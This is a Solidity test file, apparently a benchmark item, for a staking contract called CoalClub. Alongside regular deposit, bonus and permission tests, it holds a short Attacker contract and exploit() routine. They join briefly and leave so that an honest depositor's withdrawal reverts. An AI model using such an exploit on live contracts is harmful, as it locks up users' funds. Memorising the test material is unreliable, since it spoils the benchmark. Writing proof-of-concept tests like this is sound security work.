// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-2d0585bc-d144-4a07-a6f6-3eece18b7187

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./CoalClub.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// Is in the club for a day.
contract Attacker {
    function comes(CoalClub club) external {
        club.coin().approve(address(club), type(uint256).max);
        club.join(1e18);
    }

    function goes(CoalClub club) external {
        club.leave();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    uint256 private constant START = 1_767_600_000;
    uint256 private constant LATER = START + 900 days;

    Coin public coin;
    CoalClub public club;
    Attacker public guest;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        club = new CoalClub(coin, address(this));
        coin.approve(address(club), type(uint256).max);
        club.fill(2_000e18);
        _endow(ANNA);
        _endow(BELA);
        vm.prank(ANNA);
        club.join(10_000e18);
        guest = new Attacker();
        coin.transfer(address(guest), 1e18);
        vm.warp(LATER);
    }

    function _endow(address who) private {
        coin.transfer(who, 10_000e18);
        vm.prank(who);
        coin.approve(address(club), type(uint256).max);
    }

    function test_Regular() public {
        require(club.worth(10_000e18 * 365 days) == 600e18, "six in a hundred");
        club.takeBack(800e18);
        require(club.pot() == 1_200e18 && club.earned() == 10_000e18 * 730 days, "two years are kept");
        vm.startPrank(ANNA);
        club.leave();
        require(coin.balanceOf(ANNA) == 10_000e18 && club.bonusOf(ANNA) == 1_200e18, "home");
        require(club.collect() == 1_200e18 && club.pot() == 0, "and the bonus");
        club.join(4_000e18);
        vm.stopPrank();
        vm.warp(LATER + 100 days);
        vm.prank(BELA);
        club.join(2_000e18);
        club.fill(100e18);
        vm.warp(LATER + 465 days);
        vm.startPrank(BELA);
        club.leave();
        require(club.bonusOf(BELA) == 120e18 && club.bonuses() == 120e18, "a year");
        require(club.collect() == 100e18 && club.bonusOf(BELA) == 20e18, "as far as the pot goes");
        vm.stopPrank();
        require(club.earned() == 4_000e18 * 465 days && club.full() == 4_000e18 * 730 days, "what is left");
        club.fill(1_000e18);
        uint256 bound = 20e18 + club.worth(4_000e18 * 465 days);
        vm.expectRevert(abi.encodeWithSelector(Pot.Short.selector, 1_000e18 + 1, 1_000e18));
        club.takeBack(1_000e18 + 1 - bound);
        club.takeBack(1_000e18 - bound);
        require(club.pot() == bound && club.saved() == 4_000e18, "not more");
        vm.prank(BELA);
        require(club.collect() == 20e18, "the rest");
        vm.prank(ANNA);
        club.leave();
        require(coin.balanceOf(address(club)) == club.pot() && club.earned() == 0 && club.full() == 0, "empty");
        club.transferOwnership(BELA);
        vm.prank(BELA);
        club.renounceOwnership();
    }

    function test_RefusesFamilies() public {
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(CoalClub.Nothing.selector, BELA));
        club.join(0);
        vm.expectRevert(abi.encodeWithSelector(CoalClub.Nothing.selector, BELA));
        club.leave();
        club.join(1e18);
        vm.expectRevert(abi.encodeWithSelector(CoalClub.Already.selector, BELA));
        club.join(1e18);
        vm.stopPrank();
    }

    function test_RefusesOthers() public {
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        club.fill(1e18);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        club.takeBack(1e18);
        vm.stopPrank();
    }

    /// What an honest family asks for: its coins.
    function goHome() external {
        vm.prank(ANNA);
        club.leave();
    }

    function exploit() public {
        guest.comes(club);
        vm.warp(LATER + 1 days);
        guest.goes(club);
    }

    function test_Exploit() public {
        exploit();
        vm.prank(ANNA);
        (bool left,) = address(club).call(abi.encodeCall(CoalClub.leave, ()));
        require(!left, "the family can leave");
    }

    function target() public view returns (address) {
        return address(club);
    }

    function attacker() public view returns (address) {
        return address(guest);
    }
}
